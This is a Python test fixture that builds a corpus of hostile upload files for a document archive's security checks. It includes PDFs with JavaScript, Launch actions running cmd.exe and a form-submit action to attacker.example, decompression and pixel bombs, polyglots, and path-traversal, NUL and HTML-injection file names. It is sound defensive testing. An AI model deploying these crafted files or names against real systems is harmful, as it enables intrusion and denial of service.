"""The hostile-file corpus (issue 8): files that lie about what they are, are broken, carry
active content, explode when unpacked, or have names meant to hurt. Made deterministically in
Python when first used (nothing binary in the repository; encrypted AES PDFs are the exception:
qpdf draws their IVs and salts at random, which changes bytes, never the outcome).

Each entry says what the archive must do with it on every upload path: refuse it with a reason
(the refusal ``code``, the API's ``code`` and the message's Indonesian words in ``MESSAGES``),
or store it safely. Names are templates: ``{stem}`` is ``sk`` on the upload page and the API,
and ``<NIP>_<CODE>`` in bulk uploads, so the same file reaches the same checks everywhere.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
from PIL import Image

MAX_SIZE = 2 * 1024 * 1024  # the catalogue's default maximum size (sk-cpns)
PDF_ONLY = "sk-cpns"  # accepts PDF only
ANY_FORMAT = "sertifikat-diklat"  # accepts PDF, JPEG and PNG

# Outcomes beyond the refusal codes of inspection and storage.
STORED = "stored"
BAD_REQUEST = "bad_request"  # Django refuses the request before the app (a header over 1 KB)
NO_FILE = "no_file"  # Django drops a part whose name is empty once cleaned: no file arrived
# bulk: not <NIP>_<CODE>.<ext>: held to be read and matched by its text, once the file passed the
# checks (a file they refuse is refused for their reason, whatever its name)
BAD_NAME = "bad_name"
UNKNOWN_CODE = "unknown_code"  # bulk: <NIP>_<CODE> with a CODE the catalogue does not know

# What people read (in Indonesian) for each refusal: a part of the message.
MESSAGES = {
    "empty": "File kosong.",
    "unknown_format": "bukan dokumen PDF, JPEG, atau PNG",
    "extension_mismatch": "Nama file",
    "format_not_allowed": "Jenis dokumen ini menerima PDF, bukan",
    "too_large": "File lebih besar dari 2.0 MB",
    "pdf_damaged": "PDF ini rusak atau tidak lengkap",
    "pdf_encrypted": "dilindungi kata sandi atau terenkripsi",
    "pdf_no_pages": "PDF ini tidak memiliki halaman.",
    "pdf_too_many_pages": "PDF ini memiliki lebih dari 2000 halaman.",
    "pdf_javascript": "PDF ini memuat JavaScript",
    "pdf_launch": "PDF ini memuat aksi",
    "pdf_embedded_files": "PDF ini memuat file sisipan",
    "pdf_appended_data": "ditempelkan setelah akhir dokumennya",
    "image_too_large": "Gambar ini memiliki terlalu banyak piksel.",
    "image_damaged": "Gambar ini rusak atau tidak lengkap",
    BAD_NAME: "Teks berkas sedang dibaca untuk mencari NIP dan jenisnya",
    UNKNOWN_CODE: "tidak dikenal",
}


@dataclass(frozen=True)
class Hostile:
    id: str
    make: Callable[[], bytes]
    why: str
    refused: str | None = None  # the refusal code on the upload page and the API; None: stored
    name: str = "{stem}.pdf"
    doc_type: str = PDF_ONLY
    bulk: str | None = None  # the outcome of a loose file in bulk, when it differs
    zipped: str | None = None  # the outcome inside a ZIP (raw names, no Django), when it differs
    preview: str = "ready"  # the first-page preview of a stored file: ready, failed ("": not made)

    @property
    def content(self) -> bytes:
        return _made(self.make)

    @property
    def expected(self) -> str:
        return self.refused or STORED

    @property
    def expected_in_bulk(self) -> str:
        return self.bulk or self.expected

    @property
    def expected_in_zip(self) -> str:
        return self.zipped or self.expected_in_bulk

    def filename(self, stem: str = "sk") -> str:
        return self.name.replace("{stem}", stem)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


# --- Building blocks ---------------------------------------------------------------------------


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, deterministic_id=True, **options)
    return out.getvalue()


def _document(pages: int = 1) -> pikepdf.Pdf:
    """A plain PDF with a line of text on each page, like a scanned decree's OCR layer."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for number in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = pdf.make_stream(b"BT /F1 18 Tf 72 760 Td (SK CPNS %d) Tj ET" % number)
    return pdf


def pdf(build: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options) -> bytes:
    document = _document(pages)
    if build is not None:
        build(document)
    return _save(document, **options)


@cache
def good_pdf() -> bytes:
    return pdf(pages=3)


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF written by hand (objects numbered from 1) with a correct cross-reference table:
    for structures pikepdf would refuse to write."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def _page_objects(root_extra: bytes = b"", page_extra: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + root_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
    ]


def image(fmt: str = "PNG", size=(64, 48), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 200 if mode == "L" else (200, 30, 30)).save(out, format=fmt)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    crc = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc & 0xFFFFFFFF)


def png(width: int, height: int, *, bits: int = 1, colour: int = 0, rows: bytes | None = None):
    """A PNG written by hand: any size the header may claim, pixels all zero."""
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    channels = {0: 1, 2: 3}[colour]
    if rows is None:
        row = b"\x00" + bytes((width * bits * channels + 7) // 8)
        packer = zlib.compressobj(9)
        rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def _jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(image("JPEG", (16, 16)))
    at = data.index(b"\xff\xc0")  # baseline start-of-frame: length, precision, height, width
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def zip_bytes(entries, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=compression) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    return out.getvalue()


# --- PDFs with something inside ---------------------------------------------------------------


def _js(code: str = "app.alert(1)") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))


def _open_action(action: pikepdf.Dictionary):
    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return build


def _document_js(pdf: pikepdf.Pdf) -> None:
    tree = pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(_js())])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=tree))


def _page_open_js(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=_js())


def _bookmark_js(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Bab 1"), A=_js()))
    outlines = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
    )
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def _form_field_js(pdf: pikepdf.Pdf) -> None:
    # A field that is not a widget on any page: only the form's field tree reaches it.
    keystroke = pikepdf.Dictionary(K=_js("event.value = 1"))
    field = pdf.make_indirect(
        pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("nip"), AA=keystroke)
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def _deep_chain_js(pdf: pikepdf.Pdf) -> None:
    action = _js()
    for _ in range(12):  # harmless go-to actions, the script at the far end of the chain
        action = pikepdf.Dictionary(
            S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), Next=action
        )
    pdf.Root.OpenAction = action


def _rendition_js(pdf: pikepdf.Pdf) -> None:
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.Rendition, OP=0, JS=pikepdf.String("x()")))


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["surat.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="s.exe")


def _attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="s.exe")
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.FileAttachment,
        Rect=[0, 0, 20, 20],
        FS=spec.obj,
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annot]))


def _associated_files(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"<script>x()</script>", filename="a.html")
    pdf.Root.AF = pikepdf.Array([spec.obj])


def _annots_of_numbers(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = pikepdf.Array([1, pikepdf.Name.X, pikepdf.String("y")])


def _names_not_a_dictionary(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = pikepdf.Array([1, 2])


def _looping_actions(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]))
    )
    action.Next = action
    pdf.Root.OpenAction = action


def _web_link(pdf: pikepdf.Pdf) -> None:
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://bkn.go.id/")))


def _flate(size: int, byte: bytes = b" ") -> bytes:
    packer = zlib.compressobj(9)
    block = byte * (1024 * 1024)
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def _content_bomb(pdf: pikepdf.Pdf) -> None:
    # 64 MB of content operators in 64 KB; the viewer (and pdfium) must unpack all of it.
    stream = pikepdf.Stream(pdf, _flate(64 * 1024 * 1024))
    stream.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].Contents = stream


def content_amplifier(copies: int, size: int) -> Callable[[pikepdf.Pdf], None]:
    """One compressed stream of ``size`` bytes of content, drawn ``copies`` times: the page's
    content unpacks to copies × size bytes from a file of a few kilobytes."""

    def build(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_indirect(pikepdf.Stream(pdf, _flate(size)))
        stream.Filter = pikepdf.Name.FlateDecode
        pdf.pages[0].Contents = pikepdf.Array([stream] * copies)

    return build


def _image_claiming_gigapixels(pdf: pikepdf.Pdf) -> None:
    picture = pikepdf.Stream(pdf, zlib.compress(bytes(4096), 9))
    picture.Type = pikepdf.Name.XObject
    picture.Subtype = pikepdf.Name.Image
    picture.Width = picture.Height = 100_000
    picture.ColorSpace = pikepdf.Name.DeviceRGB
    picture.BitsPerComponent = 8
    picture.Filter = pikepdf.Name.FlateDecode
    page = pdf.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture))
    page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")


def _padded_to(size: int) -> Callable[[], bytes]:
    """A valid PDF of exactly ``size`` bytes (a long comment in its content stream)."""

    def make() -> bytes:
        filler = 0
        for _ in range(4):
            document = _document()
            document.pages[0].Contents = document.make_stream(b"%" + b"x" * filler + b"\n")
            data = _save(document, compress_streams=False)
            filler += size - len(data)
            if len(data) == size:
                return data
        raise AssertionError("could not pad the PDF to size")

    return make


def _encrypted(**options) -> Callable[[], bytes]:
    def make() -> bytes:
        out = io.BytesIO()
        _document().save(out, static_id=True, encryption=pikepdf.Encryption(**options))
        return out.getvalue()

    return make


def _cut(fraction: float) -> Callable[[], bytes]:
    return lambda: good_pdf()[: int(len(good_pdf()) * fraction)]


def _wrong_startxref() -> bytes:
    data = good_pdf()
    at = data.rindex(b"startxref") + len(b"startxref\n")
    end = data.index(b"\n", at)
    return data[:at] + b"%d" % (int(data[at:end]) - 7) + data[end:]


def _png_bad_crc() -> bytes:
    data = bytearray(image("PNG"))
    at = data.index(b"IDAT") + 8  # inside the pixel data; the chunk's CRC no longer matches
    data[at] ^= 0xFF
    return bytes(data)


def _png_with_script() -> bytes:
    data = image("PNG")
    text = png_chunk(b"tEXt", b"Comment\x00<html><script>alert(document.cookie)</script>")
    return data[:33] + text + data[33:]  # after the 8-byte signature and the IHDR chunk


def _jpeg_with_pdf_inside() -> bytes:
    data = image("JPEG")
    body = good_pdf()[:60000]
    comment = b"\xff\xfe" + struct.pack(">H", len(body[:65000]) + 2) + body[:65000]
    return data[:2] + comment + data[2:]


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/employees')</script></body></html>"


def _named(id: str, why: str, refused: str | None = None, **options) -> Hostile:
    """A good PDF under a hostile name. Its preview is the good PDF's, drawn for other entries
    (each preview costs a process: see thumbnails.py)."""
    return Hostile(id, good_pdf, why, refused, preview="", **options)


# --- The corpus --------------------------------------------------------------------------------

FILES = [
    # Not what they claim to be.
    Hostile("png-named-pdf", lambda: image("PNG"), "a PNG renamed .pdf", "extension_mismatch"),
    Hostile("jpeg-named-pdf", lambda: image("JPEG"), "a JPEG renamed .pdf", "extension_mismatch"),
    Hostile("html-named-pdf", lambda: HTML, "a web page with a script", "unknown_format"),
    Hostile("exe-named-pdf", lambda: EXE, "a Windows program", "unknown_format"),
    Hostile(
        "elf-named-pdf",
        lambda: b"\x7fELF\x02\x01\x01" + bytes(57),
        "a Linux program",
        "unknown_format",
    ),
    Hostile("zip-named-pdf", lambda: zip_bytes([("a.txt", b"x")]), "a ZIP", "unknown_format"),
    Hostile(
        "svg-named-png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "an SVG with a script",
        "unknown_format",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "gif-named-jpg",
        lambda: image("GIF"),
        "a GIF",
        "unknown_format",
        name="{stem}.jpg",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "bmp-named-png",
        lambda: image("BMP"),
        "a BMP",
        "unknown_format",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "pdf-header-then-garbage",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8,
        "%PDF then noise",
        "pdf_damaged",
    ),
    Hostile("pdf-header-only", lambda: b"%PDF-1.4\n", "%PDF and nothing else", "pdf_damaged"),
    Hostile(
        "pdf-header-then-html", lambda: b"%PDF-1.4\n" + HTML, "%PDF then a web page", "pdf_damaged"
    ),
    Hostile(
        "bom-then-pdf",
        lambda: b"\xef\xbb\xbf" + good_pdf(),
        "a PDF behind a byte-order mark",
        "unknown_format",
    ),
    Hostile(
        "pdf-named-jpg",
        good_pdf,
        "a PDF renamed .jpg",
        "extension_mismatch",
        name="{stem}.jpg",
        doc_type=ANY_FORMAT,
    ),
    Hostile("pdf-named-exe", good_pdf, "a PDF named .exe", "extension_mismatch", name="{stem}.exe"),
    Hostile(
        "png-for-a-pdf-only-type",
        lambda: image("PNG"),
        "a real PNG where only PDF goes",
        "format_not_allowed",
        name="{stem}.png",
    ),
    Hostile(
        "jpeg-named-png",
        lambda: image("JPEG"),
        "a JPEG renamed .png",
        "extension_mismatch",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    # Broken PDFs.
    Hostile("pdf-cut-after-16-bytes", lambda: good_pdf()[:16], "truncated", "pdf_damaged"),
    Hostile("pdf-cut-at-25-percent", _cut(0.25), "truncated", "pdf_damaged"),
    Hostile("pdf-cut-at-50-percent", _cut(0.5), "truncated", "pdf_damaged"),
    Hostile("pdf-cut-at-90-percent", _cut(0.9), "truncated", "pdf_damaged"),
    Hostile("pdf-without-its-end", lambda: good_pdf()[:-12], "the trailer cut off", "pdf_damaged"),
    Hostile("pdf-wrong-startxref", _wrong_startxref, "needs repair to open", "pdf_damaged"),
    Hostile("pdf-without-pages", lambda: _save(pikepdf.new()), "no pages", "pdf_no_pages"),
    Hostile(
        "pdf-page-tree-loop",
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            ]
        ),
        "a page tree that contains itself",
        "pdf_damaged",
    ),
    Hostile(
        "pdf-nested-100000-deep",
        lambda: raw_pdf([b"[" * 100_000 + b"]" * 100_000]),
        "arrays nested 100,000 deep",
        "pdf_damaged",
    ),
    Hostile(
        "pdf-root-not-a-dictionary",
        lambda: raw_pdf([b"42"]),
        "the catalogue is a number",
        "pdf_damaged",
    ),
    # Encrypted.
    Hostile(
        "pdf-encrypted-rc4-password",
        _encrypted(owner="pemilik", user="rahasia", R=3, aes=False, metadata=False),
        "needs a password",
        "pdf_encrypted",
    ),
    Hostile(
        "pdf-encrypted-owner-only",
        _encrypted(owner="pemilik", user="", R=3, aes=False, metadata=False),
        "opens without a password, still encrypted",
        "pdf_encrypted",
    ),
    Hostile(
        "pdf-encrypted-aes256",
        _encrypted(owner="pemilik", user="rahasia", R=6),
        "AES-256",
        "pdf_encrypted",
    ),
    Hostile(
        "pdf-encrypted-unknown-handler",
        lambda: raw_pdf(
            [*_page_objects(), b"<< /Filter /TidakAda /V 9 /R 9 /Length 128 >>"],
            trailer=b"/Root 1 0 R /Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> "
            b"<00112233445566778899aabbccddeeff>]",
        ),
        "a security handler nobody knows: cannot be opened",
        "pdf_damaged",
    ),
    # Active content.
    Hostile(
        "js-open-action", lambda: pdf(_open_action(_js())), "runs on opening", "pdf_javascript"
    ),
    Hostile("js-document-level", lambda: pdf(_document_js), "the Names tree", "pdf_javascript"),
    Hostile(
        "js-link",
        lambda: pdf(lambda p: _link(p, _js())),
        "a link that runs a script",
        "pdf_javascript",
    ),
    Hostile("js-page-open", lambda: pdf(_page_open_js), "the page's open action", "pdf_javascript"),
    Hostile(
        "js-bookmark", lambda: pdf(_bookmark_js), "a bookmark that runs a script", "pdf_javascript"
    ),
    Hostile(
        "js-form-field",
        lambda: pdf(_form_field_js),
        "a form field's keystroke script",
        "pdf_javascript",
    ),
    Hostile(
        "js-deep-in-action-chain",
        lambda: pdf(_deep_chain_js),
        "a script at the end of 12 chained actions",
        "pdf_javascript",
    ),
    Hostile(
        "js-rendition", lambda: pdf(_rendition_js), "a rendition action's script", "pdf_javascript"
    ),
    Hostile(
        "js-raw-open-action",
        lambda: raw_pdf(
            _page_objects(
                root_extra=b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://x'\\)) >>"
            )
        ),
        "written by hand",
        "pdf_javascript",
    ),
    Hostile(
        "launch-open-action",
        lambda: pdf(
            _open_action(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
        ),
        "runs a program",
        "pdf_launch",
    ),
    Hostile(
        "launch-link",
        lambda: pdf(
            lambda p: _link(
                p,
                pikepdf.Dictionary(
                    S=pikepdf.Name.Launch, Win=pikepdf.Dictionary(F=pikepdf.String("calc.exe"))
                ),
            )
        ),
        "a link that runs a program",
        "pdf_launch",
    ),
    Hostile(
        "submit-form-action",
        lambda: pdf(
            _open_action(
                pikepdf.Dictionary(
                    S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://attacker.example/")
                )
            )
        ),
        "sends the form away",
        "pdf_launch",
    ),
    Hostile(
        "import-data-action",
        lambda: pdf(
            _open_action(
                pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf"))
            )
        ),
        "imports data",
        "pdf_launch",
    ),
    Hostile("embedded-file", lambda: pdf(_attachment), "an attached program", "pdf_embedded_files"),
    Hostile(
        "file-attachment-annotation",
        lambda: pdf(_attachment_annotation),
        "an attachment on the page",
        "pdf_embedded_files",
    ),
    Hostile(
        "associated-files",
        lambda: pdf(_associated_files),
        "PDF 2.0 associated files",
        "pdf_embedded_files",
    ),
    Hostile(
        "annotations-of-numbers",
        lambda: pdf(_annots_of_numbers),
        "an annotation list holding numbers (no action)",
    ),
    Hostile(
        "names-not-a-dictionary",
        lambda: pdf(_names_not_a_dictionary),
        "a Names entry of the wrong type (no action)",
    ),
    Hostile("actions-in-a-loop", lambda: pdf(_looping_actions), "go-to actions that loop"),
    Hostile("web-link", lambda: pdf(_web_link), "an ordinary hyperlink (allowed)"),
    # Polyglots: one file, two formats.
    Hostile(
        "pdf-plus-small-zip",
        lambda: good_pdf() + zip_bytes([("x.js", b"alert(1)")]),
        "a PDF with a ZIP after its end: refused, the archive keeps only documents",
        "pdf_appended_data",
    ),
    Hostile(
        "pdf-plus-html",
        lambda: good_pdf() + HTML,
        "a PDF and a web page after its end",
        "pdf_appended_data",
    ),
    Hostile(
        "pdf-plus-big-zip",
        lambda: good_pdf() + zip_bytes([("a.exe", EXE * 200)], compression=zipfile.ZIP_STORED),
        "the ZIP hides where the PDF ends",
        "pdf_appended_data",
    ),
    Hostile("html-plus-pdf", lambda: HTML + good_pdf(), "a web page first", "unknown_format"),
    Hostile(
        "zip-plus-pdf",
        lambda: zip_bytes([("a.txt", b"x")]) + good_pdf(),
        "a ZIP first",
        "unknown_format",
    ),
    Hostile(
        "jpeg-plus-pdf",
        lambda: image("JPEG") + good_pdf(),
        "a JPEG with a PDF after it; served as JPEG",
        name="{stem}.jpg",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "jpeg-with-pdf-in-comment",
        _jpeg_with_pdf_inside,
        "a PDF inside a JPEG comment; served as JPEG",
        name="{stem}.jpg",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "png-with-script-text",
        _png_with_script,
        "a script in a text chunk; served as PNG",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    # Bombs: small files that unpack to something huge.
    Hostile(
        "pdf-content-bomb",
        lambda: pdf(_content_bomb, compress_streams=False),
        "64 MB of page content in 64 KB; rendered for the preview in a bounded process",
    ),
    Hostile(
        "pdf-content-drawn-48-times",
        lambda: pdf(content_amplifier(48, 8 * 1024 * 1024), compress_streams=False),
        "384 MB of page content from one 8 KB stream drawn 48 "
        "times, beyond the renderer's memory: no preview, and the worker lives on",
        preview="failed",
    ),
    Hostile(
        "pdf-gigapixel-image",
        lambda: pdf(_image_claiming_gigapixels),
        "an image claiming 100,000 × 100,000 pixels",
    ),
    Hostile(
        "png-144-megapixels",
        lambda: png(12_000, 12_000),
        "a pixel bomb",
        "image_too_large",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "png-81-megapixels",
        lambda: png(9_000, 9_000),
        "over the limit, under Pillow's",
        "image_too_large",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "jpeg-4-gigapixels",
        lambda: _jpeg_claiming(65_000, 65_000),
        "a JPEG header claiming 65,000 × 65,000",
        "image_too_large",
        name="{stem}.jpg",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "png-25-megapixels-in-4-kb",
        lambda: png(5_000, 5_000),
        "highly compressed but within the limit",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "pdf-5000-pages",
        lambda: pdf(pages=5000, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "5,000 pages",
        "pdf_too_many_pages",
    ),
    Hostile(
        "pdf-2001-pages",
        lambda: pdf(pages=2001, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "one page over the limit",
        "pdf_too_many_pages",
    ),
    Hostile(
        "pdf-2000-pages",
        lambda: pdf(pages=2000, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "exactly the limit",
    ),
    # Broken images.
    Hostile(
        "png-truncated",
        lambda: image("PNG", (300, 200))[:-200],
        "cut short",
        "image_damaged",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "png-wrong-crc",
        _png_bad_crc,
        "pixel data that fails its CRC",
        "image_damaged",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "png-signature-only",
        lambda: b"\x89PNG\r\n\x1a\n",
        "nothing after the signature",
        "image_damaged",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "png-zero-width",
        lambda: png(0, 10, rows=zlib.compress(b"")),
        "0 × 10 pixels",
        "image_damaged",
        name="{stem}.png",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "jpeg-truncated",
        lambda: image("JPEG", (300, 200))[:400],
        "cut short",
        "image_damaged",
        name="{stem}.jpg",
        doc_type=ANY_FORMAT,
    ),
    Hostile(
        "jpeg-header-then-garbage",
        lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4,
        "a JPEG marker then noise",
        "image_damaged",
        name="{stem}.jpg",
        doc_type=ANY_FORMAT,
    ),
    # Sizes.
    Hostile("empty", lambda: b"", "zero bytes", "empty"),
    Hostile("whitespace-only", lambda: b" \n\t\r\n", "only whitespace", "unknown_format"),
    Hostile("exactly-the-maximum-size", _padded_to(MAX_SIZE), "2 MiB to the byte"),
    Hostile("one-byte-over-the-maximum", _padded_to(MAX_SIZE + 1), "2 MiB and a byte", "too_large"),
    Hostile(
        "twenty-megabytes-of-zeros",
        lambda: bytes(20 * 1024 * 1024),
        "ten times the limit",
        "too_large",
    ),
    # Names meant to hurt (the content is a good PDF).
    _named("name-path-traversal", "climbs out of the folder", name="../../../../etc/{stem}.pdf"),
    _named("name-absolute-path", "an absolute path", name="/etc/cron.d/{stem}.pdf"),
    _named("name-windows-traversal", "backslashes", name="..\\..\\Windows\\System32\\{stem}.pdf"),
    _named("name-windows-drive", "a drive letter", name="C:\\Users\\budi\\{stem}.pdf"),
    _named("name-unc-path", "a network share", name="\\\\server\\share\\{stem}.pdf"),
    _named(
        "name-percent-encoded-traversal",
        "%2e%2e%2f",
        name="%2e%2e%2f%2e%2e%2fetc%2f{stem}.pdf",
        bulk=BAD_NAME,
    ),
    _named(
        "name-rtl-override-exe",
        "U+202E: shows as …exe.pdf, is .exe",
        "extension_mismatch",
        name="{stem}\u202efdp.exe",
        bulk=UNKNOWN_CODE,
        zipped="extension_mismatch",  # read for its text only after the checks, which refuse it
    ),
    _named(
        "name-rtl-override-pdf",
        "U+202E in a .pdf name",
        name="{stem}\u202egpj.pdf",
        bulk=UNKNOWN_CODE,
        zipped=BAD_NAME,
    ),
    _named("name-emoji", "emoji and a flag", name="📄 {stem} 🇮🇩.pdf", bulk=BAD_NAME),
    _named(
        "name-combining-marks", "zalgo", name="{stem}\u0301\u0302\u0336\u0489.pdf", bulk=BAD_NAME
    ),
    _named(
        "name-nul-then-exe",
        "NUL: sk.pdf\\0.exe",
        "extension_mismatch",
        name="{stem}.pdf\x00.exe",
        zipped=STORED,
    ),
    _named(
        "name-control-characters",
        "bell, escape sequences, carriage return",
        name="{stem}\x07\x1b[2J\r\x7f.pdf",
        bulk=BAD_NAME,
    ),
    _named(
        "name-html",
        "markup in the name",
        name='<img src=x onerror="alert(1)">{stem}.pdf',
        bulk=BAD_NAME,
    ),
    _named(
        "name-255-characters",
        "as long as a file system allows",
        name="{stem}" + "a" * 240 + ".pdf",
        bulk=BAD_NAME,
    ),
    _named(
        "name-over-1-kb",
        "a header longer than Django reads",
        BAD_REQUEST,
        name="{stem}" + "ж" * 600 + ".pdf",
        zipped=BAD_NAME,
    ),
    _named(
        "name-trailing-dots-and-spaces", "Windows drops them", name="{stem}.pdf. . ", bulk=BAD_NAME
    ),
    _named(
        "name-double-extension",
        "a PDF named .pdf.exe",
        "extension_mismatch",
        name="{stem}.pdf.exe",
    ),
    _named(
        "name-without-extension",
        "no extension at all",
        "extension_mismatch",
        name="{stem}",
    ),
    _named("name-upper-case", ".PDF", name="{stem}.PDF"),
    _named("name-windows-device", "CON.pdf", name="CON.pdf", bulk=BAD_NAME),
    _named("name-whitespace-only", "a single space", "extension_mismatch", name=" "),
    _named(
        "name-empty",
        "no name: the browser sends no file",
        NO_FILE,
        name="",
        zipped="extension_mismatch",
    ),
    _named("name-dot-dot", "only ..", NO_FILE, name="..", zipped="extension_mismatch"),
]

BY_ID = {entry.id: entry for entry in FILES}
assert len(BY_ID) == len(FILES), "corpus ids must be unique"
